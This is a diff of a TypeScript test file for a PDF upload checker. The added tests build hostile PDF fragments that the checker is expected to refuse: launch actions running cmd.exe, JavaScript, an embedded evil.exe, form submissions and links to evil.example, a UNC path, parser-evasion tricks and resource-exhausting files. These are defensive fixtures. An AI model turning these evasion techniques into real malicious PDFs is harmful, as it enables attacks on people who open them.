@@ -4,7 +4,9 @@ import { join } from 'node:path'
 import { deflateSync } from 'node:zlib'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { badPdfs, onePage, pdfOf, withPackedObject, zipOf } from '../../../test/sample-files.ts'
-import { type PdfLimits, problemOfPdf } from './pdf.ts'
+import type { Limits } from './in-process.ts'
+import { namesIn } from './pdf-names.ts'
+import { problemOfPdf } from './pdf.ts'
 
 let directory = ''
 beforeAll(async () => {
@@ -12,7 +14,7 @@ beforeAll(async () => {
 })
 afterAll(() => rm(directory, { recursive: true }))
 
-async function problemOf(pdf: Buffer, limits?: PdfLimits) {
+async function problemOf(pdf: Buffer, limits?: Limits) {
   const path = join(directory, 'a.pdf')
   await writeFile(path, pdf)
   return problemOfPdf(path, pdf.length, limits)
@@ -74,6 +76,106 @@ describe('a PDF', () => {
   })
 })
 
+describe('a PDF that acts in a way that is hard to see', () => {
+  const blanks = ' '.repeat(40)
+  const launch = '<< /S /Launch /F (cmd.exe) >>'
+  const link = (action: string): string => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`
+  /** One page, and its fifth object as it is written here, head and all. */
+  const withFifth = (fifth: string, catalog = '/OpenAction 5 0 R', page = ''): Buffer =>
+    Buffer.from(
+      onePage({ catalog, page, more: ['FIFTH'] })
+        .toString('latin1')
+        .replace('5 0 obj\nFIFTH', () => fifth),
+      'latin1',
+    )
+
+  test.each([
+    ['far behind its number', `5 0${blanks}obj\n${launch}`],
+    ['behind a comment', `5 0 %x\nobj\n${launch}`],
+    ['behind a short comment', `5 0 %\robj\n${launch}`],
+    ['under a number with a sign', `5 +0 obj\n${launch}`],
+    ['behind a word of the end that is a value', '5 0 obj\n<< /X endobj /S /Launch /F (cmd.exe) >>'],
+    ['behind a word of a stream that is a value', '5 0 obj\n<< /A stream\n/S /Launch /F (cmd.exe) >>'],
+    ['behind a bracket that closes nothing', '5 0 obj\n<< /X [ >> ] endobj /S /Launch /F (cmd.exe) >>'],
+    ['behind a text with odd brackets', '5 0 obj\n<< /T (\\( unbal \\\\) /S /Launch /F (cmd.exe) >>'],
+    ['behind a text that never ends', `6 0 obj (\nendobj\n5 0 obj\n${launch}`],
+  ])('is found %s', async (_, fifth) => {
+    expect(await problemOf(withFifth(fifth))).toEqual({ code: 'fileActive', part: 'launch' })
+  })
+
+  test.each([
+    ['JavaScript of a link', withFifth(`5 0${blanks}obj\n<< /S /JavaScript /JS (x) >>`, '', link('5 0 R')), 'script'],
+    [
+      'JavaScript after a jump',
+      withFifth(`5 0${blanks}obj\n<< /S /JavaScript /JS (x) >>`, '/OpenAction << /S /GoTo /Next 5 0 R >>'),
+      'script',
+    ],
+    ['a command of a page', withFifth(`5 0${blanks}obj\n${launch}`, '', '/AA << /O 5 0 R >>'), 'launch'],
+    ['an associated file', withFifth('5 0 obj\n<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>', '/AF [5 0 R]'), 'attachment'],
+    ['another document', onePage({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\10.0.0.1\\\\x.pdf) /D [0 /Fit] >>' }), 'address'],
+    ['a form to send', onePage({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>' }), 'address'],
+    ['data to read', onePage({ catalog: '/OpenAction << /S /ImportData /F (x.fdf) >>' }), 'address'],
+    ['an address when it is opened', onePage({ catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }), 'address'],
+    ['an address elsewhere', withFifth('5 0 obj\n<< /S /URI /URI (https://evil.example/) >>'), 'address'],
+    ['an address under a number that hides', withFifth('5 0 %x\nobj\n<< /S /URI /URI (https://evil.example/) >>'), 'address'],
+    [
+      'an address after a jump',
+      onePage({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (x) >>] >>' }),
+      'address',
+    ],
+    [
+      'an address in a list',
+      onePage({ page: '/AA 5 0 R', more: ['<< /O 6 0 R >>', '<< /S /URI /URI (https://evil.example/) >>'] }),
+      'address',
+    ],
+    ['a sound', onePage({ page: link('<< /S /Sound /Sound 5 0 R >>') }), 'media'],
+    ['a film', onePage({ page: link('<< /S /Movie >>') }), 'media'],
+    ['a rendition', onePage({ page: link('<< /S /Rendition >>') }), 'media'],
+  ])('is refused: %s', async (_, pdf, part) => {
+    expect(await problemOf(pdf)).toEqual({ code: 'fileActive', part })
+  })
+
+  test.each([
+    [
+      'links to press, and begins on a page',
+      onePage({ catalog: '/OpenAction [3 0 R /Fit]', page: link('5 0 R'), more: ['<< /S /URI /URI (https://example.de/) >>'] }),
+    ],
+    ['a link in place', onePage({ page: link('<< /S /URI /URI (https://example.de/Launch) >>') })],
+    ['a jump when it is opened', onePage({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' })],
+    ['a command of the reader when it is opened', onePage({ catalog: '/OpenAction << /S /Named /N /FirstPage >>' })],
+    [
+      'headings that lead one to the next',
+      onePage({ more: ['<< /Title (a) /Next 6 0 R /A << /S /URI /URI (x) >> >>', '<< /Title (b) /A << /S /URI /URI (x) >> >>'] }),
+    ],
+  ])('but may have %s', async (_, pdf) => {
+    expect(await problemOf(pdf)).toBeNull()
+  })
+
+  test('is found in an object stream that does not call itself one, and where objects lie within texts of it', async () => {
+    const packed = (head: string, body: string): Buffer => {
+      const data = deflateSync(Buffer.from(head + body)).toString('latin1')
+      const stream = `<< /N 1 /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`
+      return onePage({ catalog: '/OpenAction 9 0 R', more: [stream] })
+    }
+    expect(await problemOf(packed('9 0 ', launch))).toEqual({ code: 'fileActive', part: 'launch' })
+    expect(await problemOf(packed('8 0 9 6 ', `(aaaa ${launch} )`))).toEqual({ code: 'fileActive', part: 'launch' })
+  })
+
+  test('by an object stream that two readers unpack in two ways is refused', async () => {
+    const data = deflateSync(Buffer.from('9 0 null')).toString('latin1')
+    const stream = (entries: string, gap = '\n'): Buffer =>
+      onePage({ more: [`<< /N 1 /First 4 /Length ${data.length} ${entries} >>\nstream${gap}${data}\nendstream`] })
+    expect(await problemOf(stream('/Filter /FlateDecode'))).toBeNull()
+    for (const pdf of [
+      stream('/Filter /ASCIIHexDecode /X /FlateDecode'),
+      stream('/Filter /FlateDecode /DecodeParms 8 0 R'),
+      stream('/Filter /FlateDecode', ' x\n'),
+      stream('/Filter /FlateDecode /First 5'),
+    ])
+      expect(await problemOf(pdf)).toEqual({ code: 'fileBroken' })
+  })
+})
+
 describe('what is more than a PDF', () => {
   const pdf = onePage()
   test.each([
@@ -102,10 +204,39 @@ describe('a PDF that was made to do harm', () => {
     expect(await problemOf(withPackedObject('<< /Type /Font >>', { pack: bomb }))).toEqual({ code: 'fileBroken' })
   })
 
+  test.each([
+    ['heads of objects within each other', onePage({ more: ['1 0 obj '.repeat(60_000)] })],
+    ['texts that never end', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('1 0 obj (\n'.repeat(200_000)), Buffer.from('%%EOF')])],
+  ])('that repeats itself is not read again and again (%s)', async (_, pdf) => {
+    const found = namesIn(pdf)
+    expect(found.isUnreadable).toBe(true)
+    expect(await problemOf(pdf)).toEqual({ code: 'fileBroken' })
+  })
+
+  test('of more pages than anybody reads is refused, and told how many there may be', async () => {
+    const pages = (count: number): Buffer =>
+      pdfOf([
+        '<< /Type /Catalog /Pages 2 0 R >>',
+        `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} >>`,
+        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
+      ])
+    expect(await problemOf(pages(60_000))).toEqual({ code: 'fileTooManyPages', max: 1000 })
+    expect(await problemOf(pages(1000))).toBeNull()
+  })
+
   test('that takes too long is given up, and the next one is looked into', async () => {
-    const slow = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('1 0 obj (\n'.repeat(200_000)), Buffer.from('%%EOF')])
-    expect(await problemOf(slow, { milliseconds: 1000, bytes: 2 ** 30 })).toEqual({ code: 'fileBroken' })
+    expect(await problemOf(onePage(), { milliseconds: 1, bytes: 2 ** 30 })).toEqual({ code: 'fileBroken' })
     expect(await problemOf(onePage())).toBeNull()
+  })
+
+  test('is given up when nobody waits for the answer any more', async () => {
+    const path = join(directory, 'left.pdf')
+    await writeFile(path, onePage())
+    const leaving = new AbortController()
+    const looked = problemOfPdf(path, onePage().length, undefined, leaving.signal)
+    leaving.abort()
+    expect(await looked).toEqual({ code: 'fileBroken' })
+    expect(await problemOfPdf(path, onePage().length, undefined, AbortSignal.timeout(1))).toEqual({ code: 'fileBroken' })
   })
 
   test('that takes too much memory is given up', async () => {
